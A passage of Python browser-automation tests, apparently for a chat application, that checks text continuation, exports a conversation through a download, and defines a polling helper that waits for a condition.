    chat.page.get_by_label("Text that the model continues").fill("Once")
    chat.button("Continue the text").click()
    expect(chat.page.locator("#text-end .figures")).to_contain_text("tokens")
    expect(chat.fault).to_have_count(0)


def export(chat: Chat, label: str, folder: Path) -> Path:
    chat.button("This conversation: rename, export, delete").click()
    with chat.page.expect_download() as download:
        chat.button(label).click()
    path = folder / download.value.suggested_filename
    download.value.save_as(path)
    return path


def eventually(claim: Callable[[], bool], seconds: float = 5.0) -> None:
    """Waits for something that happens in another thread."""
    end = time.monotonic() + seconds
    while not claim():
        assert time.monotonic() < end, "it did not happen"
        time.sleep(0.02)
